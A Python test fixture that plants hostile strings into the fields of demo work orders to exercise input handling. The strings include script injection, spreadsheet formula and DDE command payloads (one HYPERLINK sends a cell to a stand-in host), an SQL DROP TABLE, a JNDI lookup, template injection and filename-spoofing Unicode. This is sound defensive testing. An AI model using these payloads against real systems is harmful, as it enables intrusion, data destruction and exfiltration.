"""Text that tries to be more than text, planted into the fields of some orders."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Final

from fossatray.demo.orders import PracticeOrder

LONG_TEXT: Final = "long " * 4_000
HOSTILE_TEXTS: Final = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    '=HYPERLINK("http://canary.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\tTabbed\rreturned",
    "right-to-left \u202egnp.exe\u202c and \u2066isolated\u2069 \u200f",
    "NUL here: \x00 and on",
    "lone surrogate \ud83d alone",
    "</td></tr></table>]]>--><!--",
    "'; DROP TABLE work_order; --",
    "%s %n {0} ${jndi:x} {{7*7}}",
    "bell \x07 escape \x1b[31mred\x1b[0m \x9b31m",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0304\u0369lgo 🏳️‍🌈 \U0001f468\u200d\U0001f469 ﷽",
    LONG_TEXT,
)


def _instructions(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, instructions=f"{text}\nsecond line")


def _customer(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, customer=f"Wawa {text}")


def _site(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, site_name=f"Wawa {text}")


def _street(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, address=replace(order.address, street=f"1 {text}"))


def _creator(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, created_by=f"Casey {text}")


def _contact(order: PracticeOrder, text: str) -> PracticeOrder:
    return replace(order, contact=replace(order.contact, name=f"Pat {text}"))


_PLANTERS: Final[tuple[Callable[[PracticeOrder, str], PracticeOrder], ...]] = (
    _instructions,
    _customer,
    _site,
    _street,
    _creator,
    _contact,
)


def with_hostile_text(order: PracticeOrder) -> PracticeOrder:
    """`order` with one field made hostile, by its number: every text meets every field among enough orders."""
    text = HOSTILE_TEXTS[order.id % len(HOSTILE_TEXTS)]
    return _PLANTERS[order.id // len(HOSTILE_TEXTS) % len(_PLANTERS)](order, text)
